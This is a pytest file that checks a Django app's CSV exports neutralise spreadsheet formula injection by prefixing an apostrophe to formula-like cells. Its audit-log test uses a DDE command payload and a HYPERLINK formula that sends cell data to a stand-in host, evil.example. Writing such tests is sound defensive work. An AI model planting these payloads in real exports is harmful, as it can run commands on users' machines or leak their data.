"""CSV exports neutralise cells a spreadsheet would run as formulas (core/csv.py):
every export (audit log, segment members, territory lists) goes through csv_response."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from audit.services import record_event
from core.csv import csv_lines


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_gets_an_apostrophe(cell):
    lines = list(csv_lines(["a"], [[cell], [-3]]))
    rows = list(csv.reader(io.StringIO("".join(lines))))
    assert rows[1] == ["'" + cell]
    assert rows[2] == ["-3"]  # numbers stay numbers


@pytest.mark.django_db
def test_audit_csv_neutralises_a_hostile_reason(make_user):
    record_event(
        actor=None,
        action="test.event",
        object_type="thing",
        object_id="=cmd|' /C calc'!A0",
        reason='=HYPERLINK("http://evil.example/?x="&A1)',
    )
    client = APIClient()
    client.force_authenticate(make_user("compliance"))
    response = client.get("/api/v1/audit/?format=csv")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["reason"].startswith("'=HYPERLINK")
    assert rows[0]["object_id"].startswith("'=cmd")
